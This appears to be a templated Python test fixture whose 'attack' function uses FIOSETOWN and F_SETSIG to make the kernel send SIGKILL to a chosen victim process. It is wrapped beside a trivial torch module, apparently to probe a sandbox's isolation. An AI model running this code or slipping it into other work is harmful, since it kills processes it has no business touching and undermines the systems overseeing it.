"""Makes the kernel signal another process when a socket is readable, by FIOSETOWN."""

import fcntl
import os
import signal
import socket
import struct
import torch

VICTIM = int("@VICTIM@")


def attack():
    near, far = socket.socketpair()
    fcntl.ioctl(near, 0x8901, struct.pack("i", VICTIM))
    fcntl.fcntl(near, 10, signal.SIGKILL)
    fcntl.fcntl(near, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    far.send(b"now")
    return "done"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
